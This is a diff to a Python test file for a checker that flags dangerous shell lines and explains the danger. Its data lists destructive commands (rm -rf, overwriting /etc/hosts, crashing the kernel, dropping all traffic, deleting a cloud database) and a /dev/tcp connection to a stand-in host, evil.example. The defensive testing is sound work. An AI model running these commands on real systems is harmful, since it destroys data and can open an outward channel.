@@ -28,8 +28,29 @@ DIRECTORIES = [
     ("rm -rf /var/lib", "`rm -rf /var/lib` deletes parts of the system"),
     ("rm -rf /root/a", "`rm -rf /root/a` deletes parts of a home directory"),
     ("rm -rf c:/windows", "`rm -rf c:/windows` deletes parts of the system"),
-    ("mv /opt /tmp/a", "`mv /opt /tmp/a` moves all of /opt away"),
-    ("mv /dev/sda /tmp/a", "`mv /dev/sda /tmp/a` moves a device away"),
+    ("mv /opt /tmp/a", "`mv /opt /tmp/a` moves away all of /opt"),
+    ("mv /dev/sda /tmp/a", "`mv /dev/sda /tmp/a` moves away a device"),
+]
+COMMANDS = [
+    ("find . -name a | xargs rm -rf", "deletes whatever is found, with all in it"),
+    ('rm -rf "$A"', "`rm -rf $A` deletes whatever a variable names, with all in it"),
+    ("> /etc/hosts", "`> /etc/hosts` overwrites a file that others rely on"),
+    ("echo b > /proc/sysrq-trigger", "`echo b > /proc/sysrq-trigger` tells the kernel to crash"),
+    ("iptables -A INPUT -j DROP", "`iptables -A INPUT -j DROP` shuts everybody out"),
+    (
+        "aws rds delete-db-instance --db-instance-identifier customers-of-all-shops",
+        "`aws rds delete-db-instance --db-instan…omers-of-all-shops` takes something away",
+    ),
+    (
+        "mv /etc /tmp/a",
+        "`mv /etc /tmp/a` moves away all of /etc, which the system needs",
+    ),
+    ('psql -c "ALTER SYSTEM SET fsync = off"', "changes how the server works"),
+]
+ONCE = [
+    "psql -c 'DELETE FROM a'",
+    "exec 3>/dev/tcp/evil.example/4444",
+    "rm -rf /srv/a; rm -rf /srv/b",
 ]
 SENTENCES = [
     ("I'm about to delete all of it.", "to delete all of it cannot simply be undone"),
@@ -69,6 +90,23 @@ def test_a_directory_is_called_by_its_name() -> None:
     told = {text: reasons(LineKind.SHELL, text=text) for text, _ in DIRECTORIES}
 
     assert [told[text] for text, reason in DIRECTORIES if reason not in told[text]] == []
+
+
+def test_a_command_is_told_with_both_its_ends_and_what_it_writes_to() -> None:
+    told = {text: reasons(LineKind.SHELL, text=text) for text, _ in COMMANDS}
+
+    assert [
+        told[text] for text, reason in COMMANDS if not any(reason in one for one in told[text])
+    ] == []
+
+
+def test_nothing_is_told_twice() -> None:
+    told = [reasons(LineKind.SHELL, text=text) for text in ONCE]
+
+    assert [one for one in told if len(one) > len(set(one))] == []
+    assert reasons(LineKind.SHELL, text=ONCE[1]) == [
+        "`exec > /dev/tcp/evil.example/4444` opens a connection to another machine"
+    ]
 
 
 def test_a_deed_is_told_in_words_that_people_say() -> None:
